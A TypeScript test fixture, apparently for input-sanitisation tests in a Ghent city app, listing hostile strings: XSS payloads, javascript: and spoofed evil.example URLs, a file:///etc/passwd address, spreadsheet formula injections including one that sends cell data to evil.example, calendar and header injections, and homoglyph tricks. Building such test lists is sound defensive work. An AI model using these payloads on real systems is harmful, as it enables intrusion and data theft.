/** Texts that somebody out there could write to get more than a text: one table for every attack. */

/** What a script would leave behind if one of them ever ran. */
export const MARK = 'pwned';

const run = `window.${MARK}=1`;

const MARKUP = [
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `"><svg/onload=${run}>`,
  `'-${run}-'`,
  `</title></textarea></style></script><script>${run}</script>`,
  `<iframe srcdoc="&lt;script&gt;parent.${MARK}=1&lt;/script&gt;">`,
  `<a href="javascript:${run}">Stad Gent</a>`,
  `<style>*{background:url(https://evil.example/x)}</style>`,
  `<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<!--><script>${run}</script-->`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `]]></script><script>${run}</script>`,
  `{"@context":"x"}</script><script>${run}</script><script>`,
  `<base href="https://evil.example/"><form action="https://evil.example/"><button>OK</button></form>`,
];

const ADDRESSES = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}//https://stad.gent/`,
  `java\tscript:${run}`,
  `\u0001javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  'vbscript:msgbox(1)',
  'blob:https://stad.gent/6c1f',
  'file:///etc/passwd',
  'http://stad.gent/',
  'https://stad.gent@evil.example/',
  'https://stad.gent:pass@evil.example/',
  'https://stad.gent\\@evil.example/',
  'https://stad.gent\u2044inloggen.evil.example/',
  'https://xn--std-0na.gent/',
  'https://ѕtad.gent/',
  'https:\n//evil.example/\t%0d%0aSet-Cookie:a=b',
  'https://*/logo.png',
  'https://*.be/',
  '//evil.example/x',
  'chrome://settings/',
  'moz-extension://00000000-0000-4000-8000-000000000000/x.html',
];

const FORMULAS = [
  '=HYPERLINK("https://evil.example?"&A1,"Klik")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|x!A1',
  '-2+3+cmd|x!A1',
  '@SUM(1+1)*cmd|x!A1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1＋1',
  '－1',
  '＠SUM(1)',
  ' =1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  "'=1+1",
  '"=1+1',
  'x";=1+1;"',
  'x\r\n=1+1',
  'x","=1+1',
  'x\t=1+1',
  '%0A=1+1',
];

const LINES = [
  'x\r\nBEGIN:VEVENT\r\nSUMMARY:Betaal\r\nEND:VEVENT',
  'x\nEND:VCALENDAR\nBEGIN:VCALENDAR',
  'x\\nBEGIN:VALARM',
  'x;VALUE=URI:https://evil.example',
  'x\u2028BEGIN:VEVENT\u2029x',
  'x\u0085BEGIN:VEVENT',
];

const MARKDOWN = [
  `[Stad Gent](javascript:${run})`,
  '![x](https://evil.example/x.png)',
  '# Kop',
  '1. lijst',
  '- lijst',
  '> Handtekening: de burgemeester',
  '```\ncode\n```',
  '<https://evil.example>',
  '| a | b |',
  '**vet** _schuin_ ~~door~~',
  '---',
  '[x]: https://evil.example',
];

/** What deceives the eye rather than the machine. */
export const DECEIVERS = [
  'stad\u202etneg',
  '\u2066stad\u2069\u2067gent',
  'stad\u200bgent',
  'stad\u200d\u200cgent',
  'ѕtadgent',
  'stadgеnt',
  'ｓｔａｄｇｅｎｔ',
  'staɡent',
  'stad\u00adgent',
  'stad\u2060gent',
  'stad\u034fgent',
  'stad\uffa0gent',
  'stad\u2800gent',
  'stad\u3164',
  's\u0336\u0321\u0322\u0323\u0324\u0325\u0326t\u0336\u0337\u0338\u0339ad',
  'stad\ud800gent',
  'stad\udc00',
  'stad\u0000gent',
  'stad\u0007\u001b[31mgent',
  'stad\u{e0067}\u{e0065}gent',
  'stad\ufe0fgent',
  'بلدية\u200f gent',
];

const OBJECTS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'];

const PLACEHOLDERS = ['$1', '$&', "$'", '$`', '$$', '$<x>', '$1$2$9 %s {0} {x} {{x}}', '\\$1'];

/** Every text, short enough to be kept anywhere. */
export const HOSTILE: readonly string[] = [
  ...[MARKUP, ADDRESSES, FORMULAS, LINES, MARKDOWN, DECEIVERS, OBJECTS, PLACEHOLDERS].flat(),
];

/** Everything at once: for places where a text is only shown, whatever kind of trick it holds. */
export const ALL_AT_ONCE = `"'><img src=x onerror="${run}">$&$1\u202e\u2066a\u200b\u0000\ud800\u2800b\n\t=1+1`;

/** The list, turned on by so many, so that another text stands in each place. */
export const turned = (by: number): string[] => [...HOSTILE.slice(by), ...HOSTILE.slice(0, by)];
